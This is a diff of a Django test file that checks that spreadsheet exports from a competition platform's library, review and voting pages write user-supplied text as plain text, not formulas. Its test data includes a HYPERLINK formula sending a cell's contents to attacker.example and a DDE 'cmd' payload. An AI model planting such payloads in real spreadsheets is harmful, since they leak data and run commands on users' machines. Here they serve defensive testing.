@@ -11,12 +11,9 @@ from django.utils import timezone
 from openpyxl import Workbook, load_workbook
 
 from jinxuan.exports import xlsx
-from tests.library.conftest import library  # noqa: F401 - shared fixture
-from tests.review.conftest import accepted, gz, organiser, orgs, pool  # noqa: F401 - shared fixtures
-from tests.review.test_review_flow import sheet
-from tests.voting.conftest import _clean_cache, vote_open, voter  # noqa: F401 - shared fixtures
+from tests.helpers.rubric import sheet
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("vote_cache_cleared")]
 
 LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")'
 HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
@@ -47,7 +44,7 @@ def test_the_writer_keeps_every_hostile_start_as_text_on_both_kinds_of_sheet():
                                                        ("普通文本", "s", False)]
 
 
-def test_library_export_writes_the_query_and_facet_values_as_text(client, library):  # noqa: F811
+def test_library_export_writes_the_query_and_facet_values_as_text(client, library):
     response = client.get("/library/export.xlsx", {"q": LINK, "track": "=1+2"})
     assert response.status_code == 200
     assert_text(response.content, LINK)
@@ -56,7 +53,7 @@ def test_library_export_writes_the_query_and_facet_values_as_text(client, librar
     assert "赛道" in names and "track" not in names  # the facet is named in Chinese
 
 
-def test_expert_score_export_and_the_experts_own_export_write_titles_as_text(gz, pool, accepted, organiser,  # noqa: F811
+def test_expert_score_export_and_the_experts_own_export_write_titles_as_text(gz, pool, accepted, organiser,
                                                                            client):
     from jinxuan.review import services
 
@@ -73,7 +70,7 @@ def test_expert_score_export_and_the_experts_own_export_write_titles_as_text(gz,
     assert all(dtype != "f" for _, dtype, _ in cells(response.content))
 
 
-def test_vote_export_writes_titles_as_text(gz, vote_open, voter, organiser, client):  # noqa: F811
+def test_vote_export_writes_titles_as_text(gz, vote_open, voter, organiser, client):
     from jinxuan.voting import services
 
     app = vote_open[0]
@@ -84,7 +81,7 @@ def test_vote_export_writes_titles_as_text(gz, vote_open, voter, organiser, clie
     assert_text(client.get(reverse("vote_manage:export", args=[gz.slug])).content, LINK)
 
 
-def test_the_experts_own_export_masks_the_title_as_the_blind_pages_do(gz, pool, accepted, organiser, client):  # noqa: F811
+def test_the_experts_own_export_masks_the_title_as_the_blind_pages_do(gz, pool, accepted, organiser, client):
     """Finding 9: the expert's own workbook shows the title the workspace shows, not the real one."""
     from jinxuan.review import services
 
